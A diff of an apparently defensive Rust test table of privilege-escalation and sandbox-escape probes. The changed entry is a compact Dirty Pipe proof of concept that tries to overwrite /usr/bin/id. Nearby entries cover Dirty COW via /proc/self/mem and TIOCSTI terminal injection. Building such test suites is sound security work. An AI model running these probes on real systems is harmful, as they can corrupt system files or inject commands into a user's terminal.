@@ -45,19 +45,23 @@ pub const ATTACKS: &[Attack] = &[
     // Dirty COW: writing to a read-only mapping through /proc/self/mem
     ("cve-2016-5195-own-memory", Works, || from_io(OpenOptions::new().read(true).write(true).open("/proc/self/mem"))),
     // Dirty Pipe: a page of a file spliced into a pipe, then written to
-    ("cve-2022-0847-page-in-pipe", crate::Outside::Never("this kernel has been mended"), || {
-        let path = "/usr/bin/id";
-        let mut before = [0u8; 64];
-        let mut file = fs::File::open(path).map_err(|e| e.to_string())?;
-        file.read_exact(&mut before).map_err(|e| e.to_string())?;
-        let mut pair = [0; 2];
-        unsafe { pipe(pair.as_mut_ptr()) };
-        let mut at = 1i64;
-        unsafe { syscall(SYS_splice, file.as_raw_fd(), &raw mut at, pair[1], 0, 1, 0) };
-        unsafe { write(pair[1], b"XXXX".as_ptr().cast(), 4) };
-        let after = fs::read(path).map_err(|e| e.to_string())?;
-        got(after[..64] != before, "the file is unchanged")
-    }),
+    (
+        "cve-2022-0847-page-in-pipe",
+        crate::Outside::Never("it needs a kernel from before March 2022; every kernel to be had has been mended"),
+        || {
+            let path = "/usr/bin/id";
+            let mut before = [0u8; 64];
+            let mut file = fs::File::open(path).map_err(|e| e.to_string())?;
+            file.read_exact(&mut before).map_err(|e| e.to_string())?;
+            let mut pair = [0; 2];
+            unsafe { pipe(pair.as_mut_ptr()) };
+            let mut at = 1i64;
+            unsafe { syscall(SYS_splice, file.as_raw_fd(), &raw mut at, pair[1], 0, 1, 0) };
+            unsafe { write(pair[1], b"XXXX".as_ptr().cast(), 4) };
+            let after = fs::read(path).map_err(|e| e.to_string())?;
+            got(after[..64] != before, "the file is unchanged")
+        },
+    ),
     // bubblewrap: characters pushed into the terminal of whoever started it
     ("cve-2017-5226-terminal", Depends, || call!(SYS_ioctl, 0, TIOCSTI, c"x".as_ptr())),
     // the same by the console's own call
